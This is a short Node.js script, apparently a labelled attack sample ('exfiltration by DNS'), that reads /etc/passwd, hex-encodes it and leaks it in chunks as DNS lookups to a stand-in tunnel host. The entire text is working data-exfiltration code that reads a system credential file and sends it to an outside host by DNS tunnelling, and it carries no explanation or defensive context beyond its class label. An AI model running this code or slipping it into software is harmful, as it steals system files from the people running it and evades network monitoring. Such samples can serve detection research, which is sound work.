// class: exfiltration by DNS; style: tidy
const dns = require('dns');
const fs = require('fs');

const hex = fs.readFileSync('/etc/passwd').toString('hex');
for (let i = 0, n = 0; i < hex.length; i += 60, n++) {
  dns.resolve(`${n}-${hex.slice(i, i + 60)}.d.tunnel.example`, () => {});
}
